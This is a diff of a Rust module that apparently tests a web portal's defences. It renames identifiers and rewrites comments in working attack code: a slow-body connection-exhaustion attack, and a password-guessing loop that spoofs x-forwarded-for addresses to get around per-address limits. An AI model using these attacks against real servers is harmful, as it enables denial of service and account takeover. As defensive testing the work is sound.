@@ -1,5 +1,5 @@
-//! Attacks on a portal by HTTP: requests that never end, and guesses at an account's password. Beside them the little
-//! of HTTP that an honest person needs.
+//! Attacks on a portal by HTTP: requests that never end, and guesses at an account's password; and
+//! a minimal HTTP client for the honest user.
 
 use std::io::{self, ErrorKind, Read as _, Write as _};
 use std::net::{IpAddr, Ipv6Addr, SocketAddr, TcpStream};
@@ -10,8 +10,8 @@ use rustix::net::{AddressFamily, SocketFlags, SocketType, bind, connect, socket_
 
 use super::Attack;
 
-/// How long an answer may take before there is none.
-const PATIENCE: Duration = Duration::from_secs(10);
+/// Timeout of an answer.
+const TIMEOUT: Duration = Duration::from_secs(10);
 
 /// An answer of a portal.
 pub struct Answer {
@@ -19,24 +19,24 @@ pub struct Answer {
     pub status: u16,
     /// The cookies that it sets, `NAME=VALUE`.
     pub cookies: Vec<String>,
-    /// What it says.
+    /// The body.
     pub body: String,
 }
 
-/// Asks a portal.
+/// Sends a request to a portal.
 ///
 /// # Errors
-/// There is no answer, or none of HTTP.
-pub fn ask(
+/// There is no answer, or it is not HTTP.
+pub fn request(
     portal: SocketAddr,
     method: &str,
     path: &str,
     headers: &[(&str, &str)],
     body: &str,
 ) -> io::Result<Answer> {
-    let mut stream = TcpStream::connect_timeout(&portal, PATIENCE)?;
-    stream.set_read_timeout(Some(PATIENCE))?;
-    stream.set_write_timeout(Some(PATIENCE))?;
+    let mut stream = TcpStream::connect_timeout(&portal, TIMEOUT)?;
+    stream.set_read_timeout(Some(TIMEOUT))?;
+    stream.set_write_timeout(Some(TIMEOUT))?;
     let mut request =
         format!("{method} {path} HTTP/1.1\r\nhost: {portal}\r\nconnection: close\r\n");
     for (name, value) in headers {
@@ -72,8 +72,8 @@ pub fn log_in(name: &str, password: &str) -> String {
     format!("{{\"name\":\"{name}\",\"password\":\"{password}\"}}")
 }
 
-/// Connections that each have begun a log-in, and never send its body: as many as it may have, and a new one for
-/// each that the portal closes.
+/// Connections that have each started a log-in, but never send its body: a configured number, and a
+/// new one for each that the portal closes.
 pub struct SlowBodies {
     portal: SocketAddr,
     from: Vec<IpAddr>,
@@ -82,9 +82,9 @@ pub struct SlowBodies {
 
 enum Slot {
     Free,
-    /// It may not be through yet.
+    /// The connection may not be established yet.
     Open(TcpStream),
-    Asked(TcpStream),
+    Requested(TcpStream),
 }
 
 impl SlowBodies {
@@ -98,11 +98,11 @@ impl SlowBodies {
         }
     }
 
-    /// Connections that the portal holds at present.
+    /// Connections currently held by the portal.
     #[must_use]
     pub fn held(&self) -> usize {
         let is_held = |slot: &&Slot| match slot {
-            Slot::Asked(stream) => is_open(stream),
+            Slot::Requested(stream) => is_open(stream),
             _ => false,
         };
         self.slots.iter().filter(is_held).count()
@@ -130,12 +130,12 @@ impl Attack for SlowBodies {
         let (next, done) = match std::mem::replace(&mut self.slots[at], Slot::Free) {
             Slot::Free => (Slot::Open(self.open(at)?), Ok(())),
             Slot::Open(mut stream) => match stream.write_all(BEGUN) {
-                Ok(()) => (Slot::Asked(stream), Ok(())),
+                Ok(()) => (Slot::Requested(stream), Ok(())),
                 Err(why) if is_waiting(&why) => (Slot::Open(stream), Err(why)),
                 Err(why) => (Slot::Free, Err(why)),
             },
-            Slot::Asked(stream) => match is_open(&stream) {
-                true => (Slot::Asked(stream), Err(ErrorKind::WouldBlock.into())),
+            Slot::Requested(stream) => match is_open(&stream) {
+                true => (Slot::Requested(stream), Err(ErrorKind::WouldBlock.into())),
                 false => (Slot::Free, Err(ErrorKind::ConnectionReset.into())),
             },
         };
@@ -158,8 +158,8 @@ fn is_open(mut stream: &TcpStream) -> bool {
     matches!(stream.read(&mut [0; 512]), Err(why) if is_waiting(&why))
 }
 
-/// Wrong passwords for one account, each from another address of the same /64, or of as many as there are. Addresses
-/// are told as a proxy does it: a machine rarely has so many.
+/// Wrong passwords for one account, each from another address, in one /64 or several. Addresses are
+/// given in a proxy's header, since a machine rarely has enough.
 pub struct Guessing {
     portal: SocketAddr,
     name: String,
@@ -168,7 +168,7 @@ pub struct Guessing {
 }
 
 impl Guessing {
-    /// At this account, from so many networks.
+    /// Targets this account, from `networks` networks.
     #[must_use]
     pub fn new(portal: SocketAddr, name: &str, networks: u16) -> Guessing {
         Guessing {
@@ -179,7 +179,7 @@ impl Guessing {
         }
     }
 
-    /// Guesses that the portal has compared with the password.
+    /// Guesses that the portal compared with the password.
     #[must_use]
     pub fn compared(&self) -> u64 {
         self.compared
@@ -188,13 +188,13 @@ impl Guessing {
 
 impl Attack for Guessing {
     fn strike(&mut self, n: u64) -> io::Result<()> {
-        // Of the block for documentation (RFC 3849).
+        // From the documentation prefix (RFC 3849).
         let network = u16::try_from(n % u64::from(self.networks)).unwrap_or(0);
         let address = u16::try_from(n % 0xffff).unwrap_or(0);
         let from = Ipv6Addr::new(0x2001, 0xdb8, 0, network, 0, 0, 0, address).to_string();
         let headers = [("x-forwarded-for", from.as_str())];
         let guess = log_in(&self.name, &format!("wrong password {n}"));
-        let answer = ask(self.portal, "POST", "/api/login", &headers, &guess)?;
+        let answer = request(self.portal, "POST", "/api/login", &headers, &guess)?;
         self.compared += u64::from(answer.status == 401);
         Ok(())
     }
@@ -219,12 +219,12 @@ mod tests {
     }
 
     #[test]
-    fn bodies_are_slow_until_the_other_end_has_enough() {
+    fn slow_bodies_last_until_the_server_closes_them() {
         let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
         let portal = listener.local_addr().unwrap();
         let mut slow = SlowBodies::new(portal, vec![IpAddr::from([127, 0, 0, 1])], 3);
         let mut taken = Vec::new();
-        // Each slot is opened, and asked on as soon as it is through.
+        // Each slot is opened, and its request sent once connected.
         for n in 0..100_000 {
             let _ = slow.strike(n);
             if n < 3 {
